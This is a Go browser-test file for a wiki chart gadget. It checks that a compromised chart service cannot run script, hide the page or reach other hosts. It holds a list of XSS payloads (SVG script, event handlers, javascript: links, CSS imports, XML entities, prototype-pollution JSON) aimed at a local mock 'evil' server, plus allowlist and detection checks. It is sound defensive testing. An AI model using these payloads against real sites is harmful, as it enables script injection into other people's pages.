package gadget

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// allowed is the elements that may stand in a chart or its table.
const allowed = `['DIV', 'P', 'BUTTON', 'A', 'DETAILS', 'SUMMARY', 'STYLE', 'svg', 'g', 'path', 'rect', 'circle', 'line', 'text',
	'TABLE', 'CAPTION', 'TBODY', 'TR', 'TH', 'TD', 'B', 'I']`

// clean: what is in the charts is from the allowlist, and nothing ran.
func (r *reader) clean() {
	r.t.Helper()
	if got := r.text(`window.pwned`); got != "undefined" {
		r.t.Errorf("a script of the answer ran: %s", got)
	}
	var foreign []string
	r.eval(`[...document.querySelectorAll('.afterglow *')].filter(e => !`+allowed+`.includes(e.tagName)).map(e => e.outerHTML.slice(0, 200))`, &foreign)
	for _, e := range foreign {
		r.t.Errorf("a foreign element is in the page: %s", e)
	}
	r.eval(`[...document.querySelectorAll('.afterglow *')].flatMap(e => [...e.attributes].filter(a =>
		/^on|^xlink|^(src|srcset|formaction|action|ping)$/i.test(a.name) || /script:|data:/i.test(a.value)).map(a => e.tagName + ' ' + a.name + '=' + a.value))`, &foreign)
	for _, a := range foreign {
		r.t.Errorf("a foreign attribute is in the page: %s", a)
	}
}

// hostileTitle: a campaign's name is text, in the chart, its label and its table.
func (w *world) hostileTitle(t *testing.T) {
	r := w.reader(t)
	w.agree(t, r, w.wiki.Page("Event:Hostile/Results"))
	r.state("chart")
	r.clean()
	if label := r.text(first + ".getAttribute('aria-label')"); !strings.Contains(label, "<script>window.pwned='title'</script>") {
		t.Errorf("the chart's name is %q", label)
	}
	r.accessible()
	r.picture("hostile-title")
	r.press("Show as table")
	r.state("table")
	r.clean()
}

const chartHead = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50">`

// attacks are what a service that was taken over might send for a chart. Those
// that are charts are drawn without what is bad in them; the others are refused.
func attacks(evil string) map[string]string {
	return map[string]string{
		"script":            chartHead + `<script>window.pwned=1</script><path d="M0 0L9 9"/></svg>`,
		"script with href":  chartHead + `<script href="` + evil + `/a.js"/><script xlink:href="` + evil + `/b.js"/><path d="M0 0L9 9"/></svg>`,
		"html script":       chartHead + `<h:script xmlns:h="http://www.w3.org/1999/xhtml">window.pwned=2</h:script><path d="M0 0L9 9"/></svg>`,
		"handlers":          `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="window.pwned=3"><path d="M0 0L9 9" onclick="window.pwned=4" onfocus="window.pwned=4" tabindex="0"/></svg>`,
		"foreignObject":     chartHead + `<foreignObject width="100" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="` + evil + `/frame" srcdoc="&lt;script>parent.pwned=5&lt;/script>"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="window.pwned=6"/></foreignObject><path d="M0 0L9 9"/></svg>`,
		"image":             chartHead + `<image href="` + evil + `/i.png" xlink:href="` + evil + `/i2.png" width="9" height="9" onerror="window.pwned=7"/><path d="M0 0L9 9"/></svg>`,
		"use":               chartHead + `<use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'>&lt;script>window.pwned=8&lt;/script>&lt;/svg>#x"/><path d="M0 0L9 9"/></svg>`,
		"link":              chartHead + `<a href="javascript:window.pwned=9" xlink:href="javascript:window.pwned=9"><text x="1" y="9">click</text></a><path d="M0 0L9 9"/></svg>`,
		"animation":         chartHead + `<path d="M0 0L9 9"><animate attributeName="href" values="javascript:window.pwned=10"/><set attributeName="onmouseover" to="window.pwned=10"/></path></svg>`,
		"style import":      chartHead + `<style>@import url(` + evil + `/s.css);.root{background:url(` + evil + `/bg.png)}body{display:none}.mw-body{visibility:hidden}</style><path class="root" d="M0 0L9 9"/></svg>`,
		"style breakout":    chartHead + `<style>.a{fill:red}&lt;/style>&lt;img src=x onerror=window.pwned=11></style><path class="a" d="M0 0L9 9"/></svg>`,
		"style of the page": chartHead + `<style>.root{position:fixed}.vector-header{display:none}#content{display:none}.a{fill:url(` + evil + `/f.svg#x)}</style><path class="vector-header mw-body" style="position:fixed;inset:0" d="M0 0L9 9"/></svg>`,
		"filter":            chartHead + `<path d="M0 0L9 9" fill="url(` + evil + `/p.svg#p)" filter="url(` + evil + `/p.svg#f)" clip-path="url(` + evil + `/p.svg#c)"/></svg>`,
		"stylesheet":        `<?xml-stylesheet href="` + evil + `/x.xsl" type="text/xsl"?>` + chartHead + `<path d="M0 0L9 9"/></svg>`,
		"entities":          `<!DOCTYPE svg [<!ENTITY x "<script>window.pwned=12</script>">]>` + chartHead + `&x;<path d="M0 0L9 9"/></svg>`,
		"title":             chartHead + `<title>&lt;img src=x onerror=window.pwned=13></title><path d="M0 0L9 9"><title>&lt;script>window.pwned=14&lt;/script></title></path></svg>`,
		"clobbering":        chartHead + `<g id="mw" class="afterglow"><path id="mw-content-text" d="M0 0L9 9"/></g><text id="contentSub" x="1" y="1">x</text></svg>`,
		"html":              `<html><body onload="window.pwned=15"><script>window.pwned=15</script></body></html>`,
		"xhtml root":        `<html xmlns="http://www.w3.org/1999/xhtml"><script>window.pwned=16</script></html>`,
		"broken":            chartHead + `<script>window.pwned=17</script><path d="M0 0`,
		"too many":          chartHead + strings.Repeat(`<path d="M0 0L9 9"/>`, 20000) + `</svg>`,
		"too long":          chartHead + `<path d="` + strings.Repeat("M0 0", 300000) + `"/></svg>`,
		"too deep":          chartHead + strings.Repeat("<g>", 3000) + `<path d="M0 0L9 9"/>` + strings.Repeat("</g>", 3000) + `</svg>`,
		"empty":             "",
		"null":              "\x00\x00",
	}
}

const hostileJSON = `{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 2}},
	"definition": {"group": "<img src=x onerror=window.pwned=20>"}, "group": "<script>window.pwned=21</script>",
	"points": [{"month": 1, "rate": 0.5, "at_risk": "<img src=x onerror=window.pwned=22>", "__proto__": {"pwned": 3}, "status": "<svg onload=window.pwned=23>"},
		{"group": "javascript:window.pwned=24", "month": "<a href=javascript:window.pwned=25>x</a>", "rate": 1e999, "low": {"toString": "x"}, "status": "constructor"}],
	"groups": [{"group": "<iframe srcdoc='<script>parent.pwned=26</script>'>", "points": [{"month": 1}]}]}`

// hostileServer: a service that was taken over can draw a wrong chart, and that
// is all.
func (w *world) hostileServer(t *testing.T) {
	evil := 0
	elsewhere := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		evil++
		rw.Header().Set("Access-Control-Allow-Origin", "*")
		rw.Header().Set("Content-Type", "image/svg+xml")
		fmt.Fprint(rw, chartHead+`<path d="M0 0L9 9"/></svg>`)
	}))
	defer elsewhere.Close()

	var names []string
	var text strings.Builder
	for name := range attacks("") {
		names = append(names, name)
		// Each is the chart of one event.
		fmt.Fprintf(&text, "<div class=afterglow data-event=%d data-height=100 style=\"--afterglow-height:100px\"></div>\n", len(names))
	}
	const redirected = 900
	fmt.Fprintf(&text, "<div class=afterglow data-event=%d data-height=100 style=\"--afterglow-height:100px\"></div>\n", redirected)
	w.admin.Edit(t, "Hostile", text.String())
	payloads := attacks(elsewhere.URL)
	w.front.be(http.HandlerFunc(func(rw http.ResponseWriter, q *http.Request) {
		id, kind, _ := strings.Cut(strings.TrimPrefix(q.URL.Path, "/v1/campaigns/"+wikiName+"-"), "/")
		n, err := strconv.Atoi(id)
		rw.Header().Set("Access-Control-Allow-Origin", "*")
		switch {
		case err != nil:
			http.NotFound(rw, q)
		case n == redirected:
			http.Redirect(rw, q, elsewhere.URL+"/chart.svg", http.StatusFound)
		case kind == "retention.svg":
			rw.Header().Set("Content-Type", "image/svg+xml")
			// Not a problem for the gadget, but for a browser that heeds it.
			rw.Header().Set("Link", "<"+elsewhere.URL+"/l.css>; rel=preload; as=style")
			rw.Header().Set("Refresh", "0; url="+elsewhere.URL)
			fmt.Fprint(rw, payloads[names[n-1]])
		default:
			rw.Header().Set("Content-Type", "application/json")
			fmt.Fprint(rw, hostileJSON)
		}
	}))

	r := w.reader(t)
	// The policy stops the redirect before the gadget sees it; here the gadget's
	// own check is on trial elsewhere (in its unit tests).
	r.do(chromedp.EmulateViewport(1280, int64(200*len(names)+2000)))
	r.trouble = regexp.MustCompile("violates the following Content Security Policy directive|Failed to load resource")
	r.open(w.wiki.Page("Hostile"))
	r.state("ask")
	r.press(w.load())
	r.until(`[...document.querySelectorAll('.afterglow')].every(e => /^(chart|error)$/.test(e.dataset.mwAfterglow))`)
	r.clean()

	var states []string
	r.eval(`[...document.querySelectorAll('.afterglow')].map(e => e.dataset.mwAfterglow)`, &states)
	refused := map[string]bool{"entities": true, "html": true, "xhtml root": true, "broken": true, "too long": true, "empty": true, "null": true}
	for i, name := range names {
		if got := states[i] == "error"; got != refused[name] {
			t.Errorf("%s: %s", name, states[i])
		}
	}
	if states[len(names)] != "error" {
		t.Errorf("a redirect to another host: %s", states[len(names)])
	}
	// A chart can neither hide nor cover the page.
	for _, selector := range []string{"body", "#content", "#mw-content-text"} {
		if r.colour(selector, "display") == "none" || r.colour(selector, "visibility") == "hidden" {
			t.Errorf("a chart hid %s", selector)
		}
	}
	var outside []string
	r.eval(`[...document.querySelectorAll('.afterglow svg, .afterglow svg *')].filter(e => getComputedStyle(e).position === 'fixed').map(e => e.outerHTML)`, &outside)
	if len(outside) > 0 {
		t.Errorf("a chart left its place: %q", outside)
	}
	if most := r.number(`Math.max(...[...document.querySelectorAll('.afterglow svg')].map(e => e.querySelectorAll('*').length))`); most > 5000 {
		t.Errorf("a chart has %v elements", most)
	}
	r.picture("hostile-server")

	// Click what can be clicked, then look at the figures of one chart.
	r.eval(`document.querySelectorAll('.afterglow svg *').forEach(e => e.dispatchEvent(new MouseEvent('click', {bubbles: true})))`, nil)
	r.eval(`document.querySelector('.afterglow[data-mw-afterglow=chart] .afterglow-bar button').click()`, nil)
	r.until(`document.querySelector('.afterglow[data-mw-afterglow=table]')`)
	r.clean()
	if got := r.text(`({}).pwned`); got != "undefined" {
		t.Errorf("all objects have %s", got)
	}
	var cells string
	r.eval(`document.querySelector('.afterglow table').textContent`, &cells)
	if !strings.Contains(cells, "<svg onload=window.pwned=23>") {
		t.Errorf("the cells do not show what came: %q", cells)
	}
	var violations []string
	r.eval(`violations`, &violations)
	if evil > 0 {
		t.Errorf("%d requests went elsewhere", evil)
	}
	// The redirect is a violation, and so is the preload of the header Link in
	// Chromium 150, which heeds it. Both are the browser's doing.
	for _, v := range violations {
		redirect := strings.HasPrefix(v, "connect-src ") && strings.Contains(v, fmt.Sprintf("%s-%d/", wikiName, redirected))
		preload := strings.HasPrefix(v, "style-src-elem "+elsewhere.URL+"/l.css")
		if !redirect && !preload {
			t.Errorf("a payload got as far as the policy: %s", v)
		}
	}
	r.eval(`window.violations = []`, nil)
	if !json.Valid([]byte(hostileJSON)) {
		t.Fatal("the figures are no JSON")
	}
}

// policy: the policy of these tests forbids what the gadget does not do.
func (w *world) policy(t *testing.T) {
	r := w.reader(t)
	r.trouble = regexp.MustCompile("Content Security Policy")
	elsewhere := httptest.NewServer(http.NotFoundHandler())
	defer elsewhere.Close()
	r.open(w.wiki.Page(results))
	r.eval(`fetch('`+elsewhere.URL+`').catch(() => 0)`, nil)
	r.eval(`new Promise(done => { const i = new Image(); i.onerror = done; i.src = '`+elsewhere.URL+`/i.png'; }).then(() => 0)`, nil)
	r.until(`violations.length >= 2`)
	r.eval(`window.violations = []`, nil)

	// And its shifts are seen: text that is pushed down counts.
	r.eval(`const d = document.createElement('div'); d.style.height = '200px'; document.querySelector('#mw-content-text').prepend(d)`, nil)
	r.frames()
	r.until(`shifts.length > 0`)
}
